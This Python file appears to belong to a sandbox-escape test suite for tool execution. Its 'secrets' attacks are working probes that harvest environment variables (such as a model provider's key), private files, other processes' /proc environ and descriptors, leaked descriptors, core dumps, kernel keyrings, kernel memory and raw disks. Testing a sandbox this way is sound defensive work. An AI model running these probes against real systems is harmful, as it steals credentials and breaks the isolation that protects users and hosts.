"""Secrets that lie where a tool may look: in the environment, in files, in descriptors, in memory, in a core."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from toolwright.escape.attack import Family, Seen, got_secret, more_than, says
from toolwright.escape.world import World
from toolwright.powers import Grant

attack = Family("secrets")


@contextmanager
def _granted(world: World, _wall: bool) -> Iterator[dict[str, str]]:
    yield {"granted": world.folder("granted")}


def _left_a_core(seen: Seen) -> bool:
    return isinstance(seen.after, list) and any(name.startswith("core") for name in seen.after)


ATTACKS = (
    attack(
        "the environment",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        return loot(lambda: dict(os.environ), lambda: libc.getenv(b"PLANTED"))
        """,
        got_secret,
        gain="reads what the keeper's environment holds, a key of a model's provider say",
    ),
    attack(
        "the environment as it was at the start of its process",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        # What the C library has cleared still lies above the stack.
        libc.getauxval.restype = ctypes.c_ulong
        top = libc.getauxval(31)
        def above(size):
            return ctypes.string_at(max(top - size, 0), size).decode("latin-1")
        return loot(lambda: read("/proc/self/environ"), lambda: above(4000) if top else "")
        """,
        got_secret,
        gain="reads the environment that the box was started with, cleared or not",
    ),
    attack(
        "a file that is its owner's only",
        """
        def climb():
            os.chdir("/")
            return read(it["secret"].lstrip("/"))
        def handle():
            folder = os.open(os.path.dirname(it["secret"]), os.O_RDONLY | os.O_DIRECTORY)
            return os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=folder), 100)
        return loot(lambda: read(it["secret"]), climb, handle, lambda: os.listdir("/root"))
        """,
        got_secret,
        gain="reads a private file of the person who runs the box",
    ),
    attack(
        "a file that everybody may read",
        'return loot(lambda: read(it["readable"]))',
        got_secret,
        gain="reads a file of the host that was not granted, in a folder that all users enter",
    ),
    attack(
        "a link of its own to a secret",
        """
        os.symlink(it["secret"], "link")
        os.symlink(os.path.dirname(it["secret"]), "folder")
        return loot(lambda: read("link"), lambda: read("folder/secret.txt"))
        """,
        got_secret,
        gain="has a path inside its work folder lead out of it",
    ),
    attack(
        "the environment of others in /proc",
        """
        parent, victim = os.getppid(), it["victim"]
        return loot(*[lambda pid=pid: read(f"/proc/{pid}/environ") for pid in (parent, victim, it["host"], 1)])
        """,
        got_secret,
        gain="reads the environment of its keeper and of every process of the same user",
    ),
    attack(
        "folders of others in /proc",
        """
        parent, victim = os.getppid(), it["victim"]
        paths = [f"/proc/{victim}/cwd/secret.txt", f"/proc/{parent}/cwd/secret.txt", f"/proc/1/root" + it["secret"],
                 f"/proc/{victim}/root" + it["secret"], "/proc/self/root" + it["secret"],
                 f"/proc/{victim}/root" + it["readable"], "/proc/self/task/self/root" + it["readable"]]
        return loot(*[lambda path=path: read(path) for path in paths])
        """,
        got_secret,
        gain="enters the file tree that another process sees",
    ),
    attack(
        "files that others have open, in /proc",
        """
        found = []
        for process in (str(os.getppid()), str(it["victim"]), str(it["host"]), "1"):
            for number in range(64):
                for mode in (os.O_RDONLY | os.O_NONBLOCK, os.O_WRONLY | os.O_NONBLOCK):
                    try:
                        os.close(os.open(f"/proc/{process}/fd/{number}", mode))
                        found.append((process, number))
                    except OSError:
                        pass
        return "opened: " + str(found) if found else "none"
        """,
        says("opened: "),
        gain="opens anew what another process has open: files that were removed, pipes, sockets of a daemon",
    ),
    attack(
        "descriptors that were left open",
        """
        found = []
        for number in range(3, 512):
            try:
                found.append(os.pread(number, 1000, 0).decode("latin-1"))
            except OSError:
                pass
        return found
        """,
        got_secret,
        gain="reads a file or memory that the process before it had open",
    ),
    attack(
        "folders that were left open",
        """
        import stat
        found = []
        for number in range(0, 512):
            try:
                if not stat.S_ISDIR(os.fstat(number).st_mode):
                    continue
                # A folder of modules may be open, where it can be reached in no other way: but nothing beside it.
                for path in ("..", "../../../../..", "../../../../../../etc/passwd", "etc/passwd"):
                    found.append((number, os.open(path, os.O_RDONLY, dir_fd=number)))
            except OSError:
                pass
        return "opened: " + str(found) if found else "none"
        """,
        says("opened: "),
        gain="climbs out of its root by a folder that was opened outside of it",
    ),
    attack(
        "more channels than its two",
        """
        import stat
        found = []
        for number in range(3, 1024):
            try:
                if not stat.S_ISDIR(os.fstat(number).st_mode):
                    found.append(number)
            except OSError:
                pass
        return len(found)
        """,
        more_than(2),
        gain="holds the control socket of its keeper, or the channels of another guest",
    ),
    attack(
        "leftovers in its own memory",
        """
        return searched("planted" + "-" + "secret-")
        """,
        got_secret,
        gain="finds what the process it was forked from had in memory: keys, other tools, other answers",
    ),
    attack(
        "a core of its process",
        """
        import ctypes, resource, signal
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        loot(lambda: resource.setrlimit(resource.RLIMIT_CORE, (hard, hard)), lambda: ctypes.CDLL(None).prctl(4, 1))
        os.chdir(it["granted"])
        signal.signal(signal.SIGABRT, signal.SIG_DFL)
        os.abort()
        """,
        _left_a_core,
        gain="has its whole memory, with what was inherited, written to a disk of the host",
        after='return os.listdir(it["granted"])',
        stage=_granted,
        grant=lambda world: Grant(writes=(str(world.shared / "granted"),)),
        kernel="everybody",  # where cores go to a program, or nowhere
    ),
    attack(
        "a secret in a keyring of its user",
        """
        found = []
        for keyring in (-2, -3, -4, -5):  # of the process, the session, the user, the user's session
            listed = bytearray(400)
            import ctypes
            room = (ctypes.c_char * 400).from_buffer(listed)
            for what in loot(lambda: syscall("keyctl", 11, keyring, room, 400)):
                if what.isdigit():
                    for place in range(0, int(what), 4):
                        text = ctypes.create_string_buffer(200)
                        key = int.from_bytes(listed[place:place + 4], "little", signed=True)
                        found += loot(lambda: syscall("keyctl", 11, key, text, 200)) + [text.value.decode("latin-1")]
        return found
        """,
        got_secret,
        gain="reads what a person's other programs keep in the kernel: tickets, tokens, disk keys",
        before='return loot(lambda: syscall("add_key", b"user\\0", b"planted\\0", it["treasure"].encode(), 23, -4))',
        worn=True,
        kernel="everybody",  # where the kernel has no keyrings
    ),
    attack(
        "the kernel's log",
        """
        import ctypes
        room = ctypes.create_string_buffer(4096)
        return loot(lambda: "log: %d" % syscall("syslog", 3, room, 4096), lambda: "log: %d" % os.open("/dev/kmsg", 0))
        """,
        says('"log: '),
        gain="reads addresses, devices and names of programs of the whole machine",
        kernel="user",
    ),
    attack(
        "the memory of the machine",
        """
        def raw(path):
            with open(path, "rb", buffering=0) as file:
                return "memory: %d" % len(file.read(16))
        return loot(lambda: raw("/proc/kcore"), lambda: raw("/dev/mem"), lambda: raw("/dev/kmem"))
        """,
        says('"memory: '),
        gain="reads the memory of the kernel and of every process",
        kernel="everybody",  # many kernels have none of these files
    ),
    attack(
        "a disk of the machine",
        """
        def raw(number):
            path = f"/dev/{number}"
            with open(path, "rb", buffering=0) as file:
                return "block: %d" % len(file.read(512))
        disks = [name for name in ("vda", "sda", "nvme0n1", "xvda", "vdb", "mmcblk0", "loop0", "ram0")]
        return loot(*[lambda name=name: raw(name) for name in disks])
        """,
        says('"block: '),
        gain="reads every file of the machine past all permissions",
        kernel="everybody",  # a machine may have no disk
    ),
)
